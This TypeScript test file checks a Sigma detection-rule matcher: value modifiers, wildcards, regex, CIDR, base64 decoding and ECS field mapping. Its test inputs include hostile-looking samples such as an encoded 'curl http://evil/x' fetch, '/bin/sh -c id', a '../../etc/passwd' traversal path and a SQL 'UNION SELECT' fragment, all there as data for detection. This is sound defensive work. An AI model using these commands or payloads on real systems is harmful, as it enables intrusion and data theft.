import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ev, rule } from './test-util.ts';

/** A rule whose only selection is `sel` (YAML text of the selection body, indented 4). */
function sel(body: string) {
  return rule(`title: t\nid: t\ndetection:\n  sel:\n${body}\n  condition: sel\n`).match;
}

describe('Sigma value matching', () => {
  it('plain values: case-insensitive equality, numbers compare as text', () => {
    const m = sel('    user.name: Admin\n    destination.port: 22');
    assert.equal(m(ev({ user: { name: 'admin' }, destination: { port: 22 } })), true);
    assert.equal(m(ev({ user: { name: 'ADMIN' }, destination: { port: '22' } })), true);
    assert.equal(m(ev({ user: { name: 'admin2' }, destination: { port: 22 } })), false);
    assert.equal(m(ev({ user: { name: 'admin' } })), false);
  });

  it('lists OR their values; maps AND their fields; lists of maps OR the maps', () => {
    const m = sel('    - user.name: [root, admin]\n      source.port: 1\n    - user.name: guest');
    assert.equal(m(ev({ user: { name: 'root' }, source: { port: 1 } })), true);
    assert.equal(m(ev({ user: { name: 'root' }, source: { port: 2 } })), false);
    assert.equal(m(ev({ user: { name: 'guest' } })), true);
  });

  it('wildcards * and ?, with backslash escapes', () => {
    const m = sel("    url.path: '/adm?n/*.php'");
    assert.equal(m(ev({ url: { path: '/ADMIN/x/y.php' } })), true);
    assert.equal(m(ev({ url: { path: '/admn/x.php' } })), false);
    const lit = sel("    message: 'a\\*b'");
    assert.equal(lit(ev({ message: 'a*b' })), true);
    assert.equal(lit(ev({ message: 'axxb' })), false);
  });

  it('contains / startswith / endswith and |contains|all', () => {
    assert.equal(sel('    message|contains: PASS')(ev({ message: 'bad password' })), true);
    assert.equal(sel('    message|startswith: bad')(ev({ message: 'Bad password' })), true);
    assert.equal(sel('    message|endswith: word')(ev({ message: 'bad password' })), true);
    assert.equal(sel('    message|endswith: bad')(ev({ message: 'bad password' })), false);
    const all = sel('    message|contains|all: [union, select]');
    assert.equal(all(ev({ message: '1 UNION ALL SELECT 2' })), true);
    assert.equal(all(ev({ message: '1 union 2' })), false);
    assert.equal(sel("    message|contains: 'a*c'")(ev({ message: 'xxabbbcxx' })), true);
  });

  it('re (case-sensitive unless |i), cidr v4 and v6, exists, null', () => {
    assert.equal(sel("    message|re: '^GET /\\d+$'")(ev({ message: 'GET /42' })), true);
    assert.equal(sel("    message|re: '^get'")(ev({ message: 'GET /' })), false);
    assert.equal(sel("    message|re|i: '^get'")(ev({ message: 'GET /' })), true);
    const cidr = sel("    source.ip|cidr: ['10.0.0.0/8', '2001:db8::/32']");
    assert.equal(cidr(ev({ source: { ip: '10.1.2.3' } })), true);
    assert.equal(cidr(ev({ source: { ip: '2001:db8:1::5' } })), true);
    assert.equal(cidr(ev({ source: { ip: '11.1.2.3' } })), false);
    assert.equal(cidr(ev({ source: { ip: 'not-an-ip' } })), false);
    assert.equal(sel('    user.name|exists: true')(ev({ user: { name: 'x' } })), true);
    assert.equal(sel('    user.name|exists: false')(ev({ user: { name: 'x' } })), false);
    assert.equal(sel('    user.name|exists: false')(ev({})), true);
    const nul = sel('    user.name: null');
    assert.equal(nul(ev({})), true);
    assert.equal(nul(ev({ user: { name: 'x' } })), false);
  });

  it('lt / lte / gt / gte compare numbers', () => {
    const m = sel('    destination.port|gte: 1024\n    http.response.status_code|lt: 500');
    assert.equal(m(ev({ destination: { port: 8080 }, http: { response: { status_code: 404 } } })), true);
    assert.equal(m(ev({ destination: { port: 80 }, http: { response: { status_code: 404 } } })), false);
    assert.equal(m(ev({ destination: { port: 8080 }, http: { response: { status_code: 500 } } })), false);
    assert.equal(sel('    source.port|gt: 5')(ev({ source: { port: 'x' } })), false);
  });

  it('base64 and base64offset', () => {
    const enc = Buffer.from('/bin/sh -c id').toString('base64');
    assert.equal(sel("    message|base64: '/bin/sh -c id'")(ev({ message: enc })), true);
    const off = sel("    message|base64offset|contains: 'http://'");
    for (const prefix of ['', 'a', 'ab']) {
      const text = Buffer.from(`${prefix}curl http://evil/x`).toString('base64');
      assert.equal(off(ev({ message: `echo ${text} | base64 -d` })), true, prefix);
    }
    assert.equal(off(ev({ message: Buffer.from('nothing here').toString('base64') })), false);
  });

  it('event arrays match on any element; keywords search message and event.original', () => {
    assert.equal(sel('    event.category: web')(ev({ event: { category: ['network', 'web'] } })), true);
    const kw = rule(
      "title: t\nid: t\ndetection:\n  keywords:\n    - 'Failed password'\n    - 'authentication failure'\n  condition: keywords\n",
    ).match;
    assert.equal(kw(ev({ message: 'Failed password for root from 1.2.3.4 port 22 ssh2' })), true);
    assert.equal(kw(ev({ event: { original: 'pam_unix(sshd:auth): authentication failure; x' } })), true);
    assert.equal(kw(ev({ message: 'Accepted password for root' })), false);
  });

  it('Sigma field names map to ECS', () => {
    const m = sel("    c-uri|contains: '../'\n    cs-method: GET\n    src_ip|cidr: 198.51.100.0/24");
    assert.equal(
      m(
        ev({
          url: { original: '/a/../../etc/passwd' },
          http: { request: { method: 'GET' } },
          source: { ip: '198.51.100.9' },
        }),
      ),
      true,
    );
    // c-uri falls back to url.path when url.original is absent (OpenCanary HTTP events)
    assert.equal(
      m(ev({ url: { path: '/../x' }, http: { request: { method: 'get' } }, source: { ip: '198.51.100.9' } })),
      true,
    );
  });
});
